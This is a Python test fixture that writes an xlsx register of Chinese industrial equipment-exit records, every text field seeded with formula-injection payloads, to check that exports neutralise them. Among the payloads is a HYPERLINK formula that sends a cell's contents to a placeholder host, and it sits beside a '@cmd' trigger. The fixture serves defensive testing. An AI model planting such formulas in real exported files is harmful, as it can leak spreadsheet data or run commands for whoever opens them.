"""A register whose text a spreadsheet would run: formula-like names, sheet and file names.

Every free-text field of every row starts with a formula trigger; the file and its sheet are
named like formulas too. The rows span the exit categories and statuses so that every public
list, the annual report and the data page have some of them (loaded as of AS_OF).
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from openpyxl import Workbook

from tests.helpers.registers import HEADERS, unit_row

AS_OF = dt.date(2025, 12, 31)
FILE_NAME = "=1+1 登记表.xlsx"
SHEET_NAME = "@SUM(1)"
# What a spreadsheet would run, in the forms OWASP lists (and a space or tab in front).
FORMULAS = (
    "=1+1",
    "+SUM(A1)",
    "-2+3",
    "@cmd",
    '=HYPERLINK("http://x.example/?"&A1,"x")',
    " =1+1",
    "\t=2+2",
)


def _rows() -> list[dict[str, str]]:
    # (category, status, 问题认定日期, 整改期限, 实际退出日期): one per list they land in.
    kinds = [
        ("淘汰类", "在产", "", "", ""),  # overdue: credit list, carried over
        ("能耗不达标", "整改中", "2025-09-01", "", ""),  # rectify (能耗)
        ("环保不达标", "整改中", "", "2026-03-31", ""),  # rectify (环保)
        ("质量不达标", "整改中", "", "2026-04-30", ""),  # rectify (质量)
        ("安全不达标", "停产", "", "2026-05-31", ""),  # rectify (安全)
        ("环保不达标", "整改中", "", "2025-06-30", ""),  # overdue 不达标: 提请关闭
        ("淘汰类", "已拆除", "", "", "2025-03-01"),  # closed, and this year's exits
    ]
    rows = []
    for i, (category, status, identified, rectify, exited) in enumerate(kinds, start=1):
        text = FORMULAS[i % len(FORMULAS)]
        rows.append(
            unit_row(
                i,
                equipment=f"{i}#",
                企业名称=f"{FORMULAS[(i - 1) % len(FORMULAS)]}有限公司",
                装备名称=text,
                规格型号=FORMULAS[(i + 1) % len(FORMULAS)],
                详细地址=FORMULAS[(i + 2) % len(FORMULAS)],
                备注=FORMULAS[(i + 3) % len(FORMULAS)],
                退出类别=category,
                当前状态=status,
                问题认定日期=identified,
                整改期限=rectify,
                实际退出日期=exited,
                退出方式="拆除" if exited else "",
            )
        )
    return rows


def write_hostile_register(folder: Path) -> Path:
    """The register as an xlsx whose cells are text (not formulas), under FILE_NAME."""
    book = Workbook()
    sheet = book.active
    sheet.title = SHEET_NAME
    for r, values in enumerate([HEADERS, *([row[h] for h in HEADERS] for row in _rows())], 1):
        for c, value in enumerate(values, 1):
            cell = sheet.cell(r, c, value)
            cell.data_type = "s"  # openpyxl would store "=1+1" as a formula
    path = folder / FILE_NAME
    book.save(path)
    return path


def live(text: str) -> bool:
    """Would a spreadsheet run this cell? (Written apart from exitmap.cells on purpose.)"""
    head = text.lstrip(" \u3000")
    if not head or head[0] not in "=+-@\t\r":
        return False
    try:
        float(text)  # one plain number ("-2.5") is a constant, not a formula
    except ValueError:
        return True
    return False
